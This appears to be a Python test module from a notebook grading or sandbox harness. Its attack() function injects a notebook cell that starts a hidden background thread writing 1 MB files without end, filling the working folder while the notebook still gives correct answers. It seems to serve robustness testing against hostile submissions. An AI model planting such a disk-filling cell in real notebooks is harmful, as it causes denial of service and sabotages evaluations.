"""A thread fills the working folder while the functions answer rightly and at once."""

from hostile import add_cell

POINTS = None  # the folder's limit ends the process early or late: whatever it was then asked is lost


def attack(notebook):
    return add_cell(
        notebook,
        """
        import threading
        def fill():
            number = 0
            while True:
                number += 1
                try:
                    with open(f"file{number}", "wb") as file:
                        file.write(bytes(1 << 20))
                except OSError:
                    pass
        threading.Thread(target=fill, daemon=True).start()
        """,
    )
